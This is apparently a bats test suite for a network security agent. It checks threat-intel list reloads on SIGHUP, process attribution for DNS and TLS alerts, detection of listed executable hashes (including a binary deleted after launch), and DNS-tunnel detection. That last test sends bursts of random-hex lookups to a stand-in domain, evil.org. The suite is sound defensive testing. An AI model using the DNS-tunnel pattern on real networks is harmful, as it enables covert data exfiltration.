#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Threat intelligence in the real agent: what is listed is told, and a new list counts from SIGHUP on,
# the old one no more. So is a DNS tunnel.

net=pkin
load lib

setup_file() {
	export run=$BATS_FILE_TMPDIR intel=/run/$net-intel
	make_net
	mkdir -p "$intel" # where the agent, which is nobody in particular, may read
	echo "old.example" >"$intel/list.txt"
	write_config "$run/picket.yaml"
	echo "detect: {intel_dir: $intel}" >>"$run/picket.yaml"
	start_daemon
	export daemon
	nsenter --net="/run/netns/${net}s" dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
		--user=root --listen-address=$server_ip --bind-interfaces --address=/example/$server_ip \
		--address=/evil.org/$server_ip >"$run/dnsmasq.log" 2>&1 3>&- &
	wait_for 10 ask ready.example
}

teardown_file() {
	kill_children
	clean_net
	rm -rf "$intel"
}

ask() { in_client dig +tries=1 +time=2 "@$server_ip" "$1"; }
# alert_with JQ: some alert satisfies it.
alert_with() { api /v1/alerts | jq -e ".alerts | any(.[]; $1)"; }

@test "SIGHUP: the new list counts, the old one no more" {
	echo "new.example" >"$intel/list.txt"
	kill -HUP "$daemon"
	wait_for 10 grep -q "configuration read again" "$run/log"
	counts() { ask www.new.example && alert_with 'tostring | contains("www.new.example")'; }
	wait_for 10 counts
	ask later.old.example
	ask last.new.example # told after it, if that were told
	wait_for 10 alert_with 'tostring | contains("last.new.example")'
	! alert_with 'tostring | contains("later.old.example")' || false
}

reloads() { [ "$(grep -c "configuration read again" "$run/log")" -ge "$1" ]; }
# names NAME PROGRAM: the first process of the alert about this name is this program.
names() {
	local file
	file=$(api /v1/alerts | jq -r --arg n "$1" '[.alerts[] | select(.unmapped.picket.name == $n)] | first |
		[.evidences[].process? | select(.) | .file.name] | first')
	[ "$file" = "$(basename "$(readlink -f "$(command -v "$2")")")" ]
}

@test "an alert about a name names the program that asked for it" {
	local before
	before=$(grep -c "configuration read again" "$run/log" || true)
	printf 'whose.example\ncarried.example\n' >"$intel/list.txt"
	kill -HUP "$daemon"
	wait_for 10 reloads $((before + 1))
	ask www.whose.example
	wait_for 10 names www.whose.example dig || {
		api /v1/alerts | jq -c '.alerts[].evidences'
		false
	}
}

# Several, for what is read first is chance: the hello, the socket or the flow.
@test "an alert about a name in a hello names the program that said it" {
	local i
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=carried.example \
		-keyout "$run/key.pem" -out "$run/cert.pem" 2>/dev/null
	nsenter --net="/run/netns/${net}s" openssl s_server -accept $server_ip:443 -key "$run/key.pem" \
		-cert "$run/cert.pem" -www >"$run/tls.log" 2>&1 3>&- &
	others=$!
	wait_for 10 grep -q ACCEPT "$run/tls.log"
	for i in $(seq 8); do
		in_client curl -sk --max-time 5 --resolve "c$i.carried.example:443:$server_ip" \
			"https://c$i.carried.example/" >/dev/null
	done
	for i in $(seq 8); do
		wait_for 10 names "c$i.carried.example" curl || {
			api /v1/alerts | jq -c --arg n "c$i.carried.example" \
				'.alerts[] | select(.unmapped.picket.name == $n) | [.finding_info.desc, .evidences]'
			false
		}
	done
}

# ran PATH: an alert about this program, of intelligence.
ran() {
	alert_with '.finding_info.analytic.uid == "intel" and .severity == "Critical" and
		(.finding_info.desc | contains("'"$1"'"))'
}
hashes() { api /v1/status | jq -e ".file_hashes | $1"; }

# What is not listed differs in one byte. One that is was deleted as soon as it ran: the process still
# has it.
@test "a program whose file is listed is told, a near miss is not" {
	local before known path
	before=$(grep -c "configuration read again" "$run/log" || true)
	for path in listed near gone early; do
		cp "$(command -v sleep)" "$run/$path"
		printf x >>"$run/$path"
	done
	printf y >>"$run/near"
	in_client "$run/early" 30 & # before anybody knows
	others="$others $!"
	sleep 0.5
	sha256sum "$run/listed" >"$intel/list.txt"
	kill -HUP "$daemon"
	wait_for 10 reloads $((before + 1))
	in_client "$run/gone" 3 &
	others="$others $!"
	sleep 0.2
	rm "$run/gone"
	in_client "$run/near" 1
	in_client "$run/listed" 1
	wait_for 10 ran "$run/early"
	wait_for 10 ran "$run/listed"
	wait_for 10 ran "$run/gone"
	! ran "$run/near" || false
	api /v1/alerts | jq -e --arg p "$run/listed" '[.alerts[] | select(.finding_info.desc | contains($p))] | first |
		(.finding_info.attacks | any(.technique.uid // .sub_technique.uid | startswith("T1204"))) and
		(.evidences | any(.process.file.path == $p))' || {
		api /v1/alerts | jq -c --arg p "$run/listed" '.alerts[] | select(.finding_info.desc | contains($p))'
		false
	}
	known=$(hashes .known)
	sleep 2 # files as new as that are read again
	in_client "$run/listed" 0.5
	in_client "$run/listed" 0.5
	wait_for 10 hashes ".waiting == 0 and .known > $known"
	picket --socket "$run/picket.sock" status | grep -q "Files of programs, by SHA-256"
}

@test "a tunnel in names is told, ordinary lookups are not" {
	local i
	for i in $(seq 60); do
		ask "$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n').t.evil.org"
	done >"$run/digs"
	wait_for 10 alert_with '.finding_info.analytic.uid == "dns_tunnel" and (tostring | contains("evil.org"))'
	for i in $(seq 60); do
		ask "www$i.shop.example"
	done >"$run/digs"
	[ "$(api /v1/alerts | jq '[.alerts[] | select(.finding_info.analytic.uid == "dns_tunnel")] | length')" = 1 ]
}
